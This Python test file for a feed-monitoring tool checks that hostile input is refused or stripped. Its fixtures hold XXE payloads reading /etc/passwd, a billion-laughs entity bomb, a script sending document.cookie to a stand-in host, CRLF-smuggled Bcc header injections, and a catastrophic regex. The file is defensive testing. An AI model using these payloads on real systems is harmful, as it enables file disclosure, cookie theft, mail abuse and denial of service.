"""Hostile input: XML attacks, HTML in feeds, header injection, fuzzed feeds and rule files."""

import contextlib
import email
import email.policy
import random
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from vigil.errors import SourceError, VigilError
from vigil.monitor import Monitor
from vigil.pipeline import run_once
from vigil.rules import load_ruleset
from vigil.settings import Settings
from vigil.sources import parse_feed
from vigil.sources.feeds import FeedSpec

from tests.conftest import (
    EXAMPLES,
    RULES,
    FeedServer,
    changed,
    maildir_messages,
    unstyled,
    write_feeds_file,
)
from tests.support.loopback_http import Answer, LoopbackHTTP

SPEC = FeedSpec(name="Hostile", url="https://hostile.example/rss")
ITEM = b"<item><title>a &xxe; b</title><link>https://e.org/1</link></item>"

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol "lol">\n'
    + b"".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'.encode()
        for n in range(1, 10)
    )
    + b']>\n<rss version="2.0"><channel><title>x</title>'
    b"<item><title>&lol9;</title><link>https://e.org/1</link></item></channel></rss>"
)
EXTERNAL_FILE = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<rss version="2.0"><channel><title>x</title>' + ITEM + b"</channel></rss>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd">'
    b' %remote;]><rss version="2.0"><channel><title>x</title>' + ITEM + b"</channel></rss>"
)
UTF16_ENTITY = (
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE rss [<!ENTITY x "y">]>'
    '<rss version="2.0"><channel><title>x</title></channel></rss>'
).encode("utf-16")


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_FILE, PARAMETER_ENTITY, UTF16_ENTITY],
    ids=["billion-laughs", "external-file", "parameter-entity", "utf-16"],
)  # fmt: skip
def test_entity_declarations_are_refused_by_name(document: bytes) -> None:
    with pytest.raises(
        SourceError, match=r"Hostile: refused: the feed's DOCTYPE declares <!ENTITY>"
    ):
        parse_feed(document, SPEC)


def test_an_external_dtd_is_never_fetched(loopback_http: Callable[..., LoopbackHTTP]) -> None:
    server = loopback_http(fallback=Answer(b'<!ENTITY x "fetched">'))
    document = (
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{server.url("evil.dtd")}">'
        '<rss version="2.0"><channel><title>x</title><item><title>plain &x;</title>'
        "<link>https://e.org/1</link></item></channel></rss>"
    ).encode()
    for fast in (True, False):
        result = parse_feed(document, SPEC, fast=fast)
        assert all("fetched" not in a.title for a in result.articles)
    assert server.requests == []


def test_a_hostile_feed_fails_alone_and_the_run_goes_on(
    settings: Settings, feed_server: FeedServer, tmp_path: Path
) -> None:
    (feed_server.root / "laughs.xml").write_bytes(BILLION_LAUGHS)
    feeds = write_feeds_file(
        tmp_path / "feeds.yaml",
        [("Laughs", feed_server.url("laughs.xml")), ("Meduza", feed_server.url("meduza.rss.xml"))],
    )
    summary = run_once(Monitor(changed(settings, feeds=feeds, articles="")))
    by_name = {source.name: source for source in summary.sources}
    assert by_name["Laughs"].status == "failed" and "refused" in by_name["Laughs"].error
    assert by_name["Meduza"].status == "read" and by_name["Meduza"].new_items > 0
    assert len(maildir_messages(settings.outbox)) == 1


HOSTILE_RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Hostile</title><link>https://hostile.example/</link>
<item>
  <title>Erdoğan offers to &lt;b&gt;mediate&lt;/b&gt; &lt;script&gt;alert(1)&lt;/script&gt;
  between Russia and Ukraine</title>
  <link>javascript:alert(document.cookie)</link>
  <guid isPermaLink="false">hostile-1</guid>
  <description><![CDATA[<p onclick="steal()">Turkey offered to mediate between Russia and
  Ukraine.<script>document.location='https://evil.example/?c='+document.cookie</script>
  <iframe src="https://evil.example/frame"></iframe>
  <img src="https://tracker.example/pixel.gif?id=42" width="1" height="1">
  <a href="javascript:alert(2)">read more</a>
  <svg onload="alert(3)"></svg></p>]]></description>
</item>
<item>
  <title>Kremlin rejects Turkish mediation
Bcc: victim@evil.example</title>
  <link>https://hostile.example/2</link>
  <description>Moscow rejected Ankara's offer to mediate between Russia and Ukraine.</description>
</item>
</channel></rss>
"""


@pytest.fixture
def hostile_run(settings: Settings, feed_server: FeedServer, tmp_path: Path):
    (feed_server.root / "hostile.xml").write_text(HOSTILE_RSS, encoding="utf-8")
    feeds = tmp_path / "feeds.yaml"
    feeds.write_text(
        f'feeds:\n  - name: "Hostile\\r\\nX-Evil: 1"\n    url: {feed_server.url("hostile.xml")}\n',
        encoding="utf-8",
    )
    summary = run_once(Monitor(changed(settings, feeds=feeds, articles="")))
    assert summary.ok, summary.lines()
    (message,) = maildir_messages(settings.outbox)
    return message


def test_html_from_feeds_never_reaches_the_digest(hostile_run) -> None:
    html = hostile_run.get_body(("html",)).get_content()
    for forbidden in ("<script", "<iframe", "<svg", "onclick", "onload", "javascript:",
                      "<img", "tracker.example", "evil.example/", "document.cookie"):  # fmt: skip
        assert forbidden not in html.lower(), forbidden
    # Markup in a title is reduced to its text: the words stay, tags and scripts go.
    assert "Erdoğan offers to mediate between Russia and Ukraine" in unstyled(html)
    assert "<b>" not in html and "alert(" not in html
    text = hostile_run.get_body(("plain",)).get_content()
    assert "javascript:" not in text and "evil.example/" not in text


def test_headers_stay_well_formed_and_nothing_is_injected(hostile_run) -> None:
    raw = hostile_run.as_bytes()
    header_block = raw.split(b"\n\n", 1)[0]
    assert header_block.isascii()  # non-ASCII (Erdoğan) is RFC 2047-encoded
    reparsed = email.message_from_bytes(raw, policy=email.policy.default)
    assert reparsed["Bcc"] is None and reparsed["X-Evil"] is None
    assert "\n" not in reparsed["Subject"] and "\r" not in reparsed["Subject"]
    assert reparsed["Subject"].startswith("vigil: ")
    assert all(len(line) <= 998 for line in header_block.split(b"\n"))


def test_a_rule_title_with_a_line_break_cannot_add_a_header(
    settings: Settings, tmp_path: Path
) -> None:
    rules = tmp_path / "rules"
    shutil.copytree(RULES, rules)
    text = (rules / "drones.yaml").read_text(encoding="utf-8")
    (rules / "drones.yaml").write_text(
        text.replace(
            "title: Bayraktar TB2 drones", 'title: "Bayraktar\\r\\nBcc: victim@evil.example"'
        ),
        encoding="utf-8",
    )
    run_once(Monitor(changed(settings, rules=rules)))
    (message,) = maildir_messages(settings.outbox)
    assert message["Bcc"] is None
    assert (
        "Bayraktar Bcc: victim@evil.example [medium]" in message.get_body(("plain",)).get_content()
    )


@pytest.mark.parametrize(
    ("setting", "value"),
    [("mail_to", "not an address"), ("mail_to", "a@example.org\r\nBcc: b@evil.example"),
     ("mail_from", "vigil@example.org\nBcc: x@evil.example"), ("health_to", "nobody")],
)  # fmt: skip
def test_addresses_that_are_not_addresses_are_refused(
    settings: Settings, setting: str, value: str
) -> None:
    with pytest.raises(ValueError, match="is not an email address"):
        changed(settings, **{setting: value})


CORPUS = [path.read_bytes() for path in sorted((EXAMPLES / "feeds").glob("*.xml"))]


@st.composite
def mutated_feeds(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(CORPUS)))
    for _ in range(draw(st.integers(1, 8))):
        at = draw(st.integers(0, len(data)))
        action = draw(st.sampled_from(["delete", "insert", "duplicate", "flip"]))
        span = draw(st.integers(1, 200))
        if action == "delete":
            del data[at : at + span]
        elif action == "insert":
            data[at:at] = draw(
                st.one_of(
                    st.binary(max_size=40),
                    st.sampled_from([b"<", b">", b"&", b"]]>", b"<![CDATA[", b"<!DOCTYPE x [",
                                     b"\x00", b"\xff\xfe", b"<item>", b"</channel>", b"&#0;"]),
                )
            )  # fmt: skip
        elif action == "duplicate":
            data[at:at] = data[at : at + span]
        elif data:
            data[min(at, len(data) - 1)] ^= draw(st.integers(1, 255))
    return bytes(data)


@hypothesis_settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_feeds())
def test_mutated_feeds_give_articles_or_a_clean_error(document: bytes) -> None:
    for fast in (True, False):
        try:
            result = parse_feed(document, SPEC, fast=fast)
        except SourceError:
            continue
        assert all(isinstance(article.title, str) for article in result.articles)


@hypothesis_settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000))
def test_random_bytes_give_a_clean_error_or_nothing(document: bytes) -> None:
    with contextlib.suppress(SourceError):
        parse_feed(document, SPEC)


def test_a_parser_crash_on_hostile_bytes_is_one_feeds_error() -> None:
    # feedparser raises UnicodeDecodeError on a non-UTF-8 byte in the XML declaration.
    document = (EXAMPLES / "feeds" / "daily-sabah.rss.xml").read_bytes()
    document = document.replace(b'encoding="UTF-8"', b'encoding="\xd5TF-8"', 1)
    for fast in (True, False):
        with pytest.raises(SourceError, match="Hostile: the feed could not be parsed"):
            parse_feed(document, SPEC, fast=fast)


RULE_TEXT = (RULES / "mediation.yaml").read_text(encoding="utf-8")
SPICE = [":", "-", "[", "]", "{", "\t", "  ", "\n", "'", '"', "*", "(", ")", "NEAR/", "@XYZ",
         "/(a+)+$/", "&", "!"]  # fmt: skip


@st.composite
def mutated_rules(draw: st.DrawFn) -> str:
    text = list(RULE_TEXT)
    rng = random.Random(draw(st.integers(0, 2**32)))
    for _ in range(draw(st.integers(1, 6))):
        at = rng.randrange(len(text))
        action = rng.choice(["delete", "insert", "swap"])
        if action == "delete":
            del text[at : at + rng.randint(1, 30)]
        elif action == "insert":
            text[at:at] = list(rng.choice(SPICE))
        else:
            other = rng.randrange(len(text))
            text[at], text[other] = text[other], text[at]
    return "".join(text)


@pytest.fixture(scope="module")
def rules_copy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("fuzz") / "rules"
    shutil.copytree(RULES, folder)
    return folder


@hypothesis_settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(mutated_rules())
def test_mutated_rule_files_load_or_give_a_located_error(rules_copy: Path, text: str) -> None:
    (rules_copy / "mediation.yaml").write_text(text, encoding="utf-8")
    try:
        load_ruleset(rules_copy)
    except VigilError as exc:
        problems = getattr(exc, "problems", [str(exc)])
        assert problems and all(str(rules_copy) in p or "rule" in p for p in problems), problems


def test_a_backtracking_regex_runs_in_linear_time_and_backreferences_are_refused(
    tmp_path: Path,
) -> None:
    from vigil.article import Article
    from vigil.rules import Matcher

    folder = tmp_path / "rules"
    shutil.copytree(RULES, folder)
    (folder / "regex.yaml").write_text(
        "rules:\n  - {id: evil, title: Evil, query: '/(a+)+$/'}\n", encoding="utf-8"
    )
    matcher = Matcher(load_ruleset(folder))
    # Catastrophic for a backtracking engine (2^60 paths); RE2 answers at once.
    text = "a" * 60 + "!"
    found = matcher.match(Article(title=text, body=text, outlet="x"))
    assert "evil" not in {match.rule_id for match in found}
    (folder / "regex.yaml").write_text(
        "rules:\n  - {id: evil, title: Evil, query: '/(a)\\1/'}\n", encoding="utf-8"
    )
    with pytest.raises(VigilError) as caught:
        load_ruleset(folder)
    assert "regex.yaml:2" in str(caught.value.problems)
